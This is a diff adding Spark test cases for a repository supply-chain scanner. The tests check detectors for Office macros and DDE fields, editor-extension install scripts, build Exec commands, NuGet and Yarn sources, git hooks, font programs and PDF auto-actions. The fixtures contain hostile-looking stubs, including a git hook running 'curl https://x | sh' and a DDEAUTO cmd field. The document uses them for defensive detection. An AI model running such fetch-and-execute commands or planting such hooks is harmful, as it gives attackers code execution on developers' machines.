@@ -4,6 +4,7 @@ for parsers of formats it states the rows that must come out."""
 from __future__ import annotations
 
 import io
+import struct
 import tarfile
 import zipfile
 
@@ -11,7 +12,7 @@ from pyspark.sql import functions as F
 
 from treesift.functions import policy, versions
 from treesift.functions.paths import classify_context
-from treesift.operators import active, content, intelligence, rules, supply_chain
+from treesift.operators import active, content, intelligence, packages, rules, supply_chain
 from treesift.operators.rule_table import RULES
 from treesift.operators.structured_table import STRUCTURED
 from treesift.plans import fixtures as fx
@@ -332,3 +333,108 @@ def _archives() -> list[tuple[str, str, bytes]]:
 )
 def archive_expand_x(spark, sf_dir):
     return archives.expand(spark.createDataFrame(_archives(), "repo_id string, path string, content binary")).select("path", "depth", "problem")
+
+
+MEMBERS = [
+    ("r", "a.docm!word/vbaProject.bin", "x"), ("r", "a.docm!word/_rels/document.xml.rels", '<Relationships><Relationship Id="1" Target="https://x.example" TargetMode="External"/></Relationships>'),
+    ("r", "a.docm!word/document.xml", "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText></w:p>"), ("r", "b.docx!word/document.xml", "<w:p>DDEAUTO in prose</w:p>"),
+    ("r", "b.zip!word/vbaProject.bin", "x"), ("r", "e.vsix!extension/package.json", '{"main": "./out.js", "scripts": {"postinstall": "node x.js"}}'),
+    ("r", "f.vsix!extension/package.json", '{"contributes": {"views": {}}, "scripts": {"test": "x"}}'),
+]
+
+
+@query(expected_sql("path, rule_id", [(MEMBERS[0][1], "DOC-002"), (MEMBERS[1][1], "DOC-003"), (MEMBERS[2][1], "DOC-004")]))
+def office_content_x(spark, sf_dir):
+    return packages.office_findings(spark.createDataFrame(MEMBERS, "repo_id string, path string, text string")).select("path", "rule_id")
+
+
+@query(expected_sql("path, rule_id, reason", [(MEMBERS[5][1], "IDE-008", "main"), (MEMBERS[5][1], "IDE-009", "postinstall: node x.js"), (MEMBERS[6][1], "IDE-008", "contributes.views")]))
+def editor_extension_x(spark, sf_dir):
+    return packages.extension_findings(spark.createDataFrame(MEMBERS, "repo_id string, path string, text string")).select("path", "rule_id", "reason")
+
+
+SETTINGS_FILES = [
+    ("r", "a.csproj", '<Project><Target><Exec Command="curl x" /><!-- <Exec Command="no"/> --></Target></Project>'), ("r", "b.csproj", "<Project><Exec /></Project>"),
+    ("r", "nuget.config", '<configuration><packageSources><add key="own" value="https://own.example/v3"/><add key="d" value="https://api.nuget.org/v3/index.json"/><add key="w" value="https://w.example"/></packageSources>'
+     '<packageSourceMapping><packageSource key="w"><package pattern="*"/></packageSource></packageSourceMapping></configuration>'),
+    ("r", ".yarnrc.yml", "yarnPath: .yarn/releases/yarn.cjs\nplugins:\n  - path: ../out.cjs\n    spec: x\n"),
+    ("r", ".git/hooks/post-merge", "#!/bin/sh\ncurl https://x | sh\n"), ("r", ".git/hooks/pre-push.sample", "curl x"), ("r", ".git/hooks/pre-commit", "npm test"),
+]
+
+
+@query(expected_sql("path, rule_id, severity", [("a.csproj", "DOTNET-001", "high"), ("nuget.config", "NUGET-001", "medium"), ("nuget.config", "NUGET-001", "high")]))
+def dotnet_sources_x(spark, sf_dir):
+    return packages.dotnet_findings(spark.createDataFrame(SETTINGS_FILES, "repo_id string, path string, text string")).select("path", "rule_id", "severity")
+
+
+@query(expected_sql("rule_id, line_no, severity", [("YARN-001", 1, "medium"), ("YARN-002", 3, "high")]))
+def yarn_runtime_x(spark, sf_dir):
+    return packages.yarn_findings(spark.createDataFrame(SETTINGS_FILES, "repo_id string, path string, text string")).select("rule_id", "line_no", "severity")
+
+
+@query(expected_sql("path, rule_id", [(".git/hooks/post-merge", "GITHOOK-002")]))
+def git_hooks_x(spark, sf_dir):
+    return packages.hook_findings(spark.createDataFrame(SETTINGS_FILES, "repo_id string, path string, text string")).select("path", "rule_id")
+
+
+def _font_file(magic: int = 0x5F0F3CF5, offset: int = 44, programs: bool = True) -> bytes:
+    head = struct.pack(">IIIIHH", 0, 0, 0, magic, 0, 1000) + bytes(30) + struct.pack(">hh", 0, 0)
+    tag = b"fpgm" if programs else b"cvt "
+    return b"\0\1\0\0" + struct.pack(">HHHH", 2, 0, 0, 0) + struct.pack(">4sIII", b"head", 0, offset, 54) + struct.pack(">4sIII", tag, 0, 100, 4) + head + bytes(2) + b"\0\0\0\1"
+
+
+BINARIES = [
+    ("r", "ok.ttf", 1, False, None, _font_file(programs=False)), ("r", "prog.ttf", 1, False, None, _font_file()), ("r", "magic.otf", 1, False, None, _font_file(1)), ("r", "odd.ttf", 1, False, None, _font_file(offset=46)),
+    ("r", "short.ttf", 1, False, None, b"x"), ("r", "w.woff2", 1, False, None, b"wOF2...."), ("r", "tool", 1, True, None, b"\x7fELF...."), ("r", "run.sh", 1, True, None, b"#!/bin/sh"), ("r", "x.VSIX", 1, False, None, b"PK\3\4"),
+]
+
+
+@query(
+    expected_sql(
+        "path, rule_id",
+        [("ok.ttf", "FONT-002"), ("prog.ttf", "FONT-002"), ("prog.ttf", "FONT-005"), ("magic.otf", "FONT-002"), ("magic.otf", "FONT-003"), ("odd.ttf", "FONT-002"), ("odd.ttf", "FONT-003"), ("short.ttf", "FONT-002"), ("short.ttf", "FONT-003"),
+         ("w.woff2", "FONT-002"), ("tool", "BINARY-001"), ("run.sh", "EXECBIT-001"), ("x.VSIX", "IDE-007")],
+    )
+)
+def binary_files_x(spark, sf_dir):
+    tree = spark.createDataFrame(BINARIES, "repo_id string, path string, size long, executable boolean, link_target string, content binary")
+    return packages.font_findings(tree).unionByName(packages.binary_findings(tree)).select("path", "rule_id")
+
+
+@query(expected_sql("path, rule_id", [("composer.json", "PHP-002"), ("composer.json", "PHP-003")]))
+def composer_sources_x(spark, sf_dir):
+    rows = [("r", "composer.json", '{"repositories": [{"type": "vcs"}], "config": {"allow-plugins": {"*": true}}}'), ("r", "a/composer.json", '{"repositories": [], "config": {"allow-plugins": {"x/y": true}}}')]
+    return supply_chain.composer_sources(spark.createDataFrame(rows, "repo_id string, path string, text string")).select("path", "rule_id")
+
+
+@query(expected_sql("path, reason", [("a.pdf", "JavaScript, automatic action")]))
+def pdf_active_x(spark, sf_dir):
+    rows = [
+        ("r", "a.pdf", b"%PDF-1.4\n1 0 obj <</Open#41ction 2 0 R /S /JavaScript>> endobj\n"),
+        ("r", "b.pdf", b"%PDF-1.4\n(/JavaScript) % /Launch\nstream\n/Launch\nendstream\n"),
+        ("r", "c.txt", b"%PDF /JS"),
+    ]
+    return active.pdf_findings(spark.createDataFrame(rows, "repo_id string, path string, content binary")).select("path", "reason")
+
+
+@query(expected_sql("packages, ecosystems, stale", [(7, 3, True)]))
+def snapshot_status_x(spark, sf_dir):
+    packages_ = spark.createDataFrame(SNAPSHOT, "ecosystem string, name string, advisory_id string, severity string, source_url string, added string")
+    return intelligence.snapshot_status(packages_, F.lit("2024-01-01").cast("date"), F.lit("2024-04-01").cast("date"))
+
+
+BASE = [("npm", "Left", "GHSA-a", ["= 0.9.0"]), ("npm", "gone", "OSV-e", ["= 2.0.0"]), ("go", "other", "GHSA-z", [">= 0"])]
+
+
+@query(
+    expected_sql(
+        "ecosystem, name, advisory_id, affected",
+        [("npm", "Left", "GHSA-a", "= 0.9.0"), ("go", "other", "GHSA-z", ">= 0"), ("pip", "right", "GHSA-d", ">= 0")],
+    )
+)
+def snapshot_merge_x(spark, sf_dir):
+    """The base wins over a merged advisory of the same key, and a correction takes its rows out."""
+    c = spark.createDataFrame(CANDIDATES, "id string, aliases array<string>, ecosystem string, name string, affected array<string>, published string, modified string, withdrawn boolean")
+    merged = intelligence.merge_candidates(c, intelligence.alias_components(c.select("id", "aliases"), keep=lambda df: df))
+    base = spark.createDataFrame(BASE, "ecosystem string, name string, advisory_id string, affected array<string>")
+    return intelligence.merge_snapshot(base, merged).select("ecosystem", "name", "advisory_id", F.array_join("affected", "|").alias("affected"))
